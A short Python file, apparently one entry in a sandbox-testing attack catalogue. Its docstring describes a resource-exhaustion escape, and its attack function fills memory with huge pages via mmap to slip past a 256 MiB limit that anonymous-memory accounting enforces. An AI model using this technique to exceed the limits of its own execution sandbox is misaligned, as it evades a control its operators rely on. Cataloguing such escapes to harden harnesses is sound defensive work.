"""Class: resource exhaustion. Source: own find. Escape: pages of the machine's pool of huge ones,
which no count of anonymous memory sees. Teeth: none, few machines have such a pool.
Limits: timeout_s=3, memory_bytes=1 << 28
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    libc.mmap.restype = ctypes.c_void_p
    taken = 0
    while taken < 1024:
        at = libc.mmap(None, 2 << 20, 3, 0x40022, -1, 0)
        if not at or at == 2**64 - 1:
            return taken
        ctypes.memset(at, 1, 2 << 20)
        taken += 1
